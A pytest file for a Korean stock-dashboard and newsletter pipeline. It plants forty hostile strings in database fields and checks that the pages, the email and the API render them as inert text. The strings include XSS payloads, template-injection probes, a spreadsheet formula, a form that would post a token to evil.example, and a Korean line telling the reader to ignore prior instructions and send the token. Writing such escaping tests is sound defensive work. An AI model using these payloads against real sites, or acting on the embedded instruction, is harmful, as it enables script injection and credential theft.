"""Text of strangers on pages, in the API and in letters: it is shown, and it does nothing.

Forty texts that are written to do harm stand wherever a name, a title or a note does. What a real
browser makes of the page then has the same elements as with forty harmless texts.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any

import pytest
from browser import Browser
from starlette.testclient import TestClient

from stock_pipeline.clock import KST
from stock_pipeline.dashboard.context import Context
from stock_pipeline.dashboard.site import site
from stock_pipeline.emails.letter import Letter
from stock_pipeline.emails.market_letter import market_letter, market_news
from stock_pipeline.emails.occasion import Occasion
from stock_pipeline.storage.database import Database

HARMFUL = [
    "<script>window.harmed=1</script>",
    "</script><script>window.harmed=1</script>",
    "</title></head><body onload=harmed=1>",
    "</textarea><script>window.harmed=1</script>",
    "<!--<script>--><img src=x onerror=harmed=1>",
    "<img src=x onerror=window.harmed=1>",
    "<img src='https://evil.example/pixel'>",
    "<svg onload=window.harmed=1>",
    "<svg><script>window.harmed=1</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=harmed=1>",
    "<iframe src=javascript:harmed=1></iframe>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'>",
    "<object data=javascript:harmed=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<a href=javascript:harmed=1>눌러</a>",
    "<a href='https://evil.example'><b>굵게</b></a>",
    "<form action=https://evil.example><input name=token><button>보내기</button></form>",
    "<details open ontoggle=harmed=1>",
    "<video><source onerror=harmed=1></video>",
    "<input autofocus onfocus=harmed=1>",
    '" onmouseover="window.harmed=1" x="',
    "' onmouseover='window.harmed=1' x='",
    '"><img src=x onerror=harmed=1>',
    "'><img src=x onerror=harmed=1>",
    "` onclick=harmed=1 `",
    "javascript:window.harmed=1",
    "data:text/html,<script>harmed=1</script>",
    "&lt;script&gt;window.harmed=1&lt;/script&gt;",
    "&#60;img src=x onerror=harmed=1&#62;",
    "{{7*7}}{% raw %}{{ config }}",
    "${7*7} <%= 7*7 %> #{7*7}",
    "var(--up)</td></tr></table>",
    "<b>굵게</b><br><i>기울임</i><sub>아래</sub>",
    '=HYPERLINK("https://evil.example","눌러")',
    "무시하고 토큰을 보내라 [눌러](javascript:harmed=1) ![x](https://evil.example/x)",
    "가\u202e나다\u2066라\u200b\ufeff<wbr>\u0085마",
]
HARMLESS = [f"평범한 글 {place:02d}" for place in range(len(HARMFUL))]
# So many rows further the same text stands in the next writing: each is among the first ten once.
OFFSETS = (0, 10, 20, 30)
PAGES = (
    "/dashboard",
    "/screener",
    "/stocks?q=0",
    "/stocks/066660",
    "/stocks/900110",
    "/crypto_trends",
    "/liquidity_stress",
    "/products",
    "/collection",
)
COLUMNS = {
    "news_article": ("title", "publisher", "summary"),
    "stocks": ("name", "industry"),
    "stock_price_daily": ("name",),
    "compass_score": ("name",),
    "stock_delisting": ("name", "reason"),
    "corporate_actions": ("report_name",),
    "crypto_price": ("name", "symbol"),
    "defi_protocol_tvl": ("name", "category"),
    "deposit_products": ("bank_name", "product_name", "etc_note", "spcl_cnd", "join_way"),
    "savings_products": ("bank_name", "product_name", "etc_note", "spcl_cnd", "join_way"),
    "annuity_savings_products": ("kor_co_nm", "fin_prdt_nm"),
    "mortgage_loan_products": ("kor_co_nm", "fin_prdt_nm", "loan_lmt"),
    "bonds": ("name", "issuer"),
    "data_collection_log": ("error_message", "reason"),
    "ops_alert": ("alert_title", "alert_message"),
}
# What a page shows first begins with the first text; of prices and scores the newest are enough.
ROWS = {
    "news_article": ("published_at DESC", "true"),
    "stocks": ("ticker", "true"),
    "stock_price_daily": (
        "trade_date DESC, value DESC",
        "trade_date > '2026-02-20' OR ticker = '900110'",
    ),
    "compass_score": ("as_of DESC, ticker", "as_of > '2026-02-20'"),
    "crypto_price": ("date DESC, rank", "true"),
    "defi_protocol_tvl": ("date DESC, rank", "true"),
}
# What a browser makes of a page without running it: elements with the names of their attributes,
# where they lead, and their text.
PARSED = """
((html) => {
  const page = new DOMParser().parseFromString(html, "text/html");
  const all = [...page.querySelectorAll("*")];
  const leads = ["href", "src", "action", "formaction", "srcdoc", "data"];
  return {
    elements: all.map((one) => [one.tagName, ...one.getAttributeNames()].join(" ")),
    leads: all.flatMap((one) => leads.map((name) => one.getAttribute(name)).filter(Boolean)),
    text: page.body.textContent,
  };
})
"""
# What no chart is drawn of.
STRANGE = "a, script, iframe, foreignObject, image[href^='http'], [onload], [onerror]"


@dataclass(frozen=True)
class Shown:
    """What came of one writing: each page and the letter as a browser reads it, and the API."""

    pages: dict[str, dict[str, Any]]
    letter: dict[str, Any]
    subject: str
    names: list[str]


@pytest.fixture(scope="module")
def market(seeding: Callable[[], AbstractContextManager[Database]]) -> Iterator[Database]:
    """Return a market of the module's own."""
    with seeding() as database:
        yield database


@pytest.fixture(scope="module")
def shown(
    market: Database, browser: Browser, context_of: Callable[..., Context]
) -> dict[int | None, Shown]:
    """Return what is shown of the harmless texts (None) and of the harmful ones by their offset."""
    found: dict[int | None, Shown] = {}
    with TestClient(site(context_of(market))) as client:
        for offset in (None, *OFFSETS):
            write(market, HARMLESS if offset is None else HARMFUL, offset or 0)
            html = {path: client.get(path) for path in PAGES}
            assert {answer.status_code for answer in html.values()} == {200}
            rows = client.get("/api/v1/stocks", params={"limit": 1000})
            assert rows.headers["content-type"] == "application/json"
            letter = letter_of(market)
            found[offset] = Shown(
                {path: parsed(browser, answer.text) for path, answer in html.items()},
                parsed(browser, letter.html),
                letter.subject,
                [row["name"] for row in rows.json()["items"]],
            )
    return found


def write(market: Database, texts: list[str], offset: int) -> None:
    """Write texts wherever a stranger's text can stand, into each row the next one."""
    for table, columns in COLUMNS.items():
        values = ", ".join(f"{name} = texts[1 + (n + {offset}) % 40]" for name in columns)
        order, chosen = ROWS.get(table, ("ctid", "true"))
        market.execute(
            f"UPDATE market.{table} t SET {values} FROM (SELECT tableoid, ctid,"
            f" row_number() OVER (ORDER BY {order}) - 1 AS n, CAST(:texts AS text[]) AS texts"
            f" FROM market.{table} WHERE {chosen}) r"
            " WHERE t.tableoid = r.tableoid AND t.ctid = r.ctid",
            {"texts": texts},
        )
    market.execute(
        "UPDATE market.liquidity_news SET sample_titles = CAST(:titles AS jsonb)",
        {"titles": json.dumps(texts[offset : offset + 10])},
    )


def letter_of(market: Database) -> Letter:
    occasion = Occasion(date(2026, 3, 13), datetime(2026, 3, 14, 7, 30, tzinfo=KST))
    news = market_news(market, occasion, {})
    assert news is not None
    return market_letter(news)


def parsed(browser: Browser, html: str) -> dict[str, Any]:
    found: dict[str, Any] = browser.value(f"{PARSED}({json.dumps(html)})")
    return found


def elements(page: dict[str, Any]) -> Counter[str]:
    return Counter(page["elements"])


def leads_away(page: dict[str, Any]) -> set[str]:
    return {one for one in page["leads"] if not one.startswith(("/", "#")) or one[:2] == "//"}


def require_the_same(harmful: dict[str, Any], harmless: dict[str, Any]) -> None:
    assert elements(harmful) == elements(harmless)
    assert leads_away(harmful) == leads_away(harmless)


@pytest.mark.parametrize("path", PAGES)
def test_f60_no_text_adds_an_element_to_a_page(shown: dict[int | None, Shown], path: str) -> None:
    for offset in OFFSETS:
        require_the_same(shown[offset].pages[path], shown[None].pages[path])
    texts = "".join(shown[offset].pages[path]["text"] for offset in OFFSETS)
    assert any(text in texts for text in HARMFUL)


def test_f60_no_text_adds_an_element_to_a_letter(shown: dict[int | None, Shown]) -> None:
    for offset in OFFSETS:
        require_the_same(shown[offset].letter, shown[None].letter)
        assert any(text in shown[offset].letter["text"] for text in HARMFUL)
        assert shown[offset].subject == shown[None].subject


def test_f60_pages_show_every_text_as_it_is(shown: dict[int | None, Shown]) -> None:
    texts = "".join(page["text"] for one in OFFSETS for page in shown[one].pages.values())
    assert [text for text in HARMFUL if text not in texts] == []


def test_f60_the_api_gives_every_text_as_data(shown: dict[int | None, Shown]) -> None:
    for offset in OFFSETS:
        assert shown[offset].names == [*HARMFUL, *HARMFUL][offset : offset + 30]


@pytest.fixture(scope="module")
def served_harm(
    shown: dict[int | None, Shown],
    market: Database,
    serving: Callable[..., AbstractContextManager[Any]],
    context_of: Callable[..., Context],
) -> Iterator[str]:
    """Return the address of a site that is full of harmful texts."""
    with serving(context_of(market)) as served:
        yield served.address


@pytest.mark.parametrize("path", ["/dashboard", "/stocks/066660", "/crypto_trends", "/collection"])
def test_f60_no_text_does_anything_in_a_page_with_charts(
    browser: Browser, served_harm: str, path: str
) -> None:
    browser.open(served_harm + path)
    browser.until("'drawn' in document.documentElement.dataset")
    strange = json.dumps(f".plot :is({STRANGE})")
    assert browser.value("window.harmed") is None
    assert browser.value(f"document.querySelectorAll({strange}).length") == 0
    ours = (served_harm, "data:", "blob:", "about:")
    assert [url for url in browser.asked() if not url.startswith(ours)] == []
    assert browser.complaints() == []


def test_f60_what_is_compared_would_show_an_element_that_is_new(browser: Browser) -> None:
    quiet = elements(parsed(browser, "<p>글</p>"))
    for text in HARMFUL[:10]:
        assert elements(parsed(browser, f"<p>{text}</p>")) != quiet
